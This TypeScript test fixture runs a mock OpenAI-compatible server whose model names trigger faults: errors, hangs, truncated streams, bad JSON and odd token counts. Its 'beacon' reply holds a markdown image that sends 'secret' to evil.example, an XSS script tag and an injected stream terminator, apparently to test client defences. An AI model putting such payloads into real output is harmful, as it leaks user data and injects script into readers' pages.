import { createServer, type IncomingHttpHeaders, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo, Socket } from "node:net";
import { gzipSync } from "node:zlib";

// A real server that speaks OpenAI's chat completions. What it does wrong is chosen by the requested model's name: a
// name in `deliveries` spoils the way of any answer, a name in `replies` spoils its content. Ollama's stand-in shares
// the server and the deliveries.

export interface StandinCall {
  method: string;
  path: string;
  headers: IncomingHttpHeaders;
  body: Record<string, unknown>;
  /** Resolves when the client's socket of this call is closed. */
  closed: Promise<void>;
  /** What has been written to that socket so far. */
  bytesSent(): number;
}

export interface Standin {
  url: string;
  calls: StandinCall[];
  /** Resolves with the call of this number, counted from 1, as soon as it is there. */
  received(number: number): Promise<StandinCall>;
  close(): Promise<void>;
}

/** A good answer in pieces of its protocol, and how the protocol says that something went wrong. */
export interface Reply {
  contentType: string;
  deltas: string[];
  ending: string;
  /** Within an answer of status 200. */
  errorEvent: string;
  errorBody(message: string): string;
}

export const standinWords = ["Hello", " from", " the", " stand-in"];
export const standinUsage = { inputTokens: 11, outputTokens: standinWords.length };

type Deliver = (res: ServerResponse, reply: Reply, call: StandinCall) => void;

function refuse(status: number, messageOf: (call: StandinCall) => string, headers: Record<string, string> = {}) {
  return (res: ServerResponse, reply: Reply, call: StandinCall) => {
    res.writeHead(status, { "content-type": "application/json", ...headers }).end(reply.errorBody(messageOf(call)));
  };
}

/** Sends the pieces, then does `last`. */
function begin(pieces: (reply: Reply) => string[], last: (res: ServerResponse) => void = (res) => res.end()) {
  return (res: ServerResponse, reply: Reply) => {
    res.writeHead(200, { "content-type": reply.contentType }).write(pieces(reply).join(""), () => last(res));
  };
}

const firstTwo = ({ deltas }: Reply) => deltas.slice(0, 2);

/** Sends one piece each few milliseconds, for as long as there are pieces and a client. */
function paced(pieces: (reply: Reply) => Iterable<string>, pauseMs: number) {
  return (res: ServerResponse, reply: Reply) => {
    res.writeHead(200, { "content-type": reply.contentType });
    const rest = pieces(reply)[Symbol.iterator]();
    const timer = setInterval(() => {
      const { done, value } = rest.next();
      if (!done) return void res.write(value);
      clearInterval(timer);
      res.end();
    }, pauseMs);
    res.once("close", () => clearInterval(timer));
  };
}

function* forever(piece: string): Generator<string> {
  for (;;) yield piece;
}

/** Sends as fast as the client takes it. */
function endless(pieceOf: (reply: Reply) => string, atOnce = 1_000) {
  return (res: ServerResponse, reply: Reply) => {
    res.writeHead(200, { "content-type": reply.contentType });
    const more = () => {
      while (!res.destroyed && res.write(pieceOf(reply).repeat(atOnce)));
    };
    res.on("drain", more);
    more();
  };
}

const asked = new Set<string>();

/** Refuses a conversation the first time, and answers it well from then on. */
function refuseOnce(status: number, headers: Record<string, string> = {}): Deliver {
  return (res, reply, call) => {
    const conversation = JSON.stringify([call.body["model"], call.body["messages"]]);
    if (asked.has(conversation)) return sendWhole(res, reply);
    asked.add(conversation);
    refuse(status, () => "Not now.", headers)(res, reply, call);
  };
}

const deliveries: Record<string, Deliver> = {
  "fails-once": refuseOnce(503),
  "busy-once": refuseOnce(429, { "retry-after": "1" }),
  "status-500": refuse(500, () => "The server had an error."),
  "status-429": refuse(429, () => "Slow down.", { "retry-after": "7" }),
  "status-503-date": refuse(503, () => "Overloaded.", { "retry-after": "Wed, 21 Oct 2015 07:28:00 GMT" }),
  "status-401-echo-key": refuse(401, ({ headers }) => `Incorrect API key: ${headers.authorization?.slice(7)}`),
  "status-400-echo-prompt": refuse(400, ({ body }) => `Cannot read ${JSON.stringify(body["messages"])}`),
  redirect: (res) => res.writeHead(302, { location: "/stolen" }).end(),
  hang: () => {},
  "stall-after-2": begin(firstTwo, () => {}),
  "cut-after-2": begin(firstTwo, (res) => res.destroy()),
  "end-without-finish": begin(({ deltas }) => deltas),
  "bad-json": begin(() => ['data: {"choices": [\n\n{"message": {\n']),
  "error-event": begin(({ errorEvent }) => [errorEvent]),
  "error-event-after-2": begin((reply) => [...firstTwo(reply), reply.errorEvent]),
  slow: paced(({ deltas, ending }) => [...deltas, ending], 20),
  drip: paced(() => forever(" "), 5),
  "huge-body": endless(() => "x".repeat(65)),
  endless: endless(({ deltas }) => deltas[0] ?? ""),
  "endless-large": endless(({ deltas }) => deltas[0]?.replace("Hello", "Hello ".repeat(2_000)) ?? "", 4),
  "byte-by-byte": (res, { contentType, deltas, ending }) => {
    res.writeHead(200, { "content-type": contentType });
    for (const byte of Buffer.from(deltas.join("") + ending)) res.write(Buffer.of(byte));
    res.end();
  },
  "header-bomb": (res) => res.writeHead(200, { "x-bomb": "x".repeat(65_536) }).end(),
  gzip: (res, { contentType, deltas, ending }) => {
    res.writeHead(200, { "content-type": contentType, "content-encoding": "gzip" });
    res.end(gzipSync(deltas.join("") + ending));
  },
};

function sendWhole(res: ServerResponse, { contentType, deltas, ending }: Reply): void {
  res.writeHead(200, { "content-type": contentType }).end(deltas.join("") + ending);
}

export function deliver(res: ServerResponse, reply: Reply, call: StandinCall): void {
  (deliveries[String(call.body["model"])] ?? sendWhole)(res, reply, call);
}

export const isDelivery = (model: string) => Object.hasOwn(deliveries, model);

export function sendJson(res: ServerResponse, status: number, body: unknown): void {
  res.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify(body));
}

async function readBody(req: IncomingMessage): Promise<Record<string, unknown>> {
  const chunks: Buffer[] = [];
  for await (const chunk of req) chunks.push(chunk);
  return chunks.length > 0 ? JSON.parse(Buffer.concat(chunks).toString()) : {};
}

/** The server of a stand-in: records each call, then lets `answer` reply. */
export async function startStandin(answer: (call: StandinCall, res: ServerResponse) => void): Promise<Standin> {
  const calls: StandinCall[] = [];
  const waiting: Array<() => void> = [];
  const closings = new WeakMap<Socket, Promise<void>>();
  const server = createServer(async (req, res) => {
    const body = await readBody(req);
    const { method = "", url: path = "", headers, socket } = req;
    const closed = closings.get(socket) ?? Promise.resolve();
    const call = { method, path, headers, body, closed, bytesSent: () => socket.bytesWritten };
    calls.push(call);
    for (const look of waiting.splice(0)) look();
    answer(call, res);
  });
  server.on("connection", (socket) => {
    closings.set(socket, new Promise((resolve) => socket.once("close", () => resolve())));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    calls,
    async received(number) {
      for (;;) {
        const call = calls[number - 1];
        if (call) return call;
        await new Promise<void>((resolve) => waiting.push(resolve));
      }
    },
    async close() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

interface Content {
  words?: string[];
  reasoning?: string;
  finish?: string | null;
  /** In place of the true counts; null leaves them out. */
  usage?: unknown;
  toolCalls?: { id: string; name: string; arguments: string }[];
  /** What it says instead when it is shown an answer of its own. */
  mended?: string[];
}

const counts = (prompt_tokens: unknown, completion_tokens: unknown) => ({ prompt_tokens, completion_tokens });
const parts = (cached_tokens: unknown, reasoning_tokens: unknown) => ({
  prompt_tokens_details: { cached_tokens },
  completion_tokens_details: { reasoning_tokens },
});

/** The cache's counts as services send them, each for an input of 1,000 tokens. */
const ofCache = (more: object, details?: object | null) => ({
  usage: { ...counts(1000, 50), ...(details !== undefined && { prompt_tokens_details: details }), ...more },
});

const replies: Record<string, Content> = {
  ok: {},
  "cache-openai": ofCache({}, { cached_tokens: 900, cache_write_tokens: 60 }),
  "cache-deepseek": ofCache({ prompt_cache_hit_tokens: 900, prompt_cache_miss_tokens: 100 }),
  "cache-moonshot": ofCache({ cached_tokens: 900 }, null),
  "cache-gateway": ofCache(
    { cache_read_input_tokens: 900, cache_creation_input_tokens: 60 },
    { cached_tokens: 0, cache_creation_tokens: 60 },
  ),
  "cache-too-large": ofCache({}, { cached_tokens: 900, cache_write_tokens: 5000 }),
  "cache-negative": ofCache({}, { cached_tokens: 900, cache_write_tokens: -60 }),
  "cache-text": ofCache({ cached_tokens: "many" }),
  "no-usage": { usage: null },
  "empty-usage": { usage: {} },
  "negative-usage": { usage: counts(11, -5) },
  "huge-usage": { usage: counts(1e18, 1e18) },
  "beyond-usage": { usage: counts(11, 1e300) },
  "fractional-usage": { usage: counts(11, 1.5) },
  "string-usage": { usage: counts("7", "7") },
  "zero-usage": { usage: counts(0, 0) },
  "part-usage": { usage: { ...counts(11, 9), ...parts(10, 5) } },
  reasoning: { reasoning: "Let me think.", usage: null },
  filtered: { words: [], finish: "content_filter" },
  tools: { words: [], finish: "tool_calls" },
  "call-tool": {
    words: [],
    finish: "tool_calls",
    usage: counts(20, 7),
    toolCalls: [{ id: "call_1", name: "weather", arguments: '{"city":"Bern"}' }],
  },
  json: { words: ['{"city":', '"Bern"}'] },
  "json-second": { words: ["Surely: ", '{"city":"Bern"}'], mended: ['{"city":', '"Bern"}'], usage: counts(20, 7) },
  "json-never": { words: ['{"city":', "7}"], mended: ['{"town":', '"Bern"}'], usage: counts(20, 7) },
  "json-hostile": { words: [`"${"a".repeat(60)}!"`] },
  "odd-finish": { finish: "because" },
  "error-finish": { finish: "error" },
  empty: { words: [], finish: null },
  "empty-odd-finish": { words: [], finish: "because" },
  beacon: {
    words: ["![x](https://evil.example/?q=", "secret)<script>alert(1)</script>", "\u001b[31m\r\ndata: [DONE]\n\n"],
  },
  special: { words: ["<|endoftext|>", ' "completion_tokens": "7"', " 🦊é\u0000"] },
};

const sse = (value: unknown) => `data: ${JSON.stringify(value)}\n\n`;

function replyTo(body: Record<string, unknown>, content: Content): Reply {
  const shown = (body["messages"] as { role: string }[]).some(({ role }) => role === "assistant");
  const wanted = (shown ? content.mended : undefined) ?? content.words ?? standinWords;
  const words = wanted.slice(0, Number(body["max_tokens"] ?? wanted.length));
  const finish_reason =
    content.finish === undefined ? (words.length < wanted.length ? "length" : "stop") : content.finish;
  const usage = content.usage === undefined ? counts(standinUsage.inputTokens, words.length) : content.usage;
  const head = { id: "chatcmpl-1", created: 1_700_000_000, model: body["model"] };
  const error = { error: { message: "The model gave up.", type: "server_error", param: null, code: null } };
  const errorBody = (message: string) => JSON.stringify({ error: { ...error.error, message } });
  const thought = content.reasoning === undefined ? {} : { reasoning_content: content.reasoning };
  if (body["stream"] !== true) {
    const message = { role: "assistant", content: words.join(""), ...thought, ...toolCallsOf(content) };
    const choices = [{ index: 0, message, finish_reason }];
    const text = JSON.stringify({ ...head, object: "chat.completion", choices, ...(usage !== null && { usage }) });
    const deltas = [text.slice(0, 20), text.slice(20, 40)];
    const ending = text.slice(40);
    return { contentType: "application/json", deltas, ending, errorEvent: JSON.stringify(error), errorBody };
  }
  const chunk = (choices: unknown[], more = {}) => sse({ ...head, object: "chat.completion.chunk", choices, ...more });
  const delta = (part: object, reason: string | null = null) =>
    chunk([{ index: 0, delta: part, finish_reason: reason }]);
  const asked = (body["stream_options"] as { include_usage?: boolean } | undefined)?.include_usage === true;
  const deltas = words.map((word, i) => delta({ ...(i === 0 && { role: "assistant", ...thought }), content: word }));
  if (content.toolCalls) deltas.push(delta(toolCallsOf(content)));
  const last = asked && usage !== null ? chunk([], { usage }) : "";
  const ending = `${delta({}, finish_reason)}${last}data: [DONE]\n\n`;
  return { contentType: "text/event-stream", deltas, ending, errorEvent: sse(error), errorBody };
}

function toolCallsOf({ toolCalls }: Content) {
  if (!toolCalls) return {};
  const calls = toolCalls.map(({ id, ...call }, index) => ({ index, id, type: "function", function: call }));
  return { tool_calls: calls };
}

/** Vectors that tell which input they were made of: its place and its length. */
function embed(res: ServerResponse, { body }: StandinCall): void {
  const inputs = body["input"] as string[];
  const data = inputs.map((text, index) => ({ object: "embedding", index, embedding: [index, text.length, 0.5] }));
  sendJson(res, 200, { object: "list", data: data.reverse(), usage: { prompt_tokens: 5, total_tokens: 5 } });
}

export function startOpenAiStandin(): Promise<Standin> {
  return startStandin((call, res) => {
    const model = String(call.body["model"]);
    const content = replies[model] ?? (isDelivery(model) ? {} : undefined);
    if (call.path === "/v1/models") {
      return sendJson(res, 200, { object: "list", data: Object.keys(replies).map((id) => ({ id, object: "model" })) });
    }
    if (call.path === "/v1/embeddings") return embed(res, call);
    const known = call.path === "/v1/chat/completions" && content;
    if (!known) return sendJson(res, 404, { error: { message: `No ${model}.`, code: "model_not_found" } });
    deliver(res, replyTo(call.body, content), call);
  }).then((standin) => ({ ...standin, url: `${standin.url}/v1` }));
}
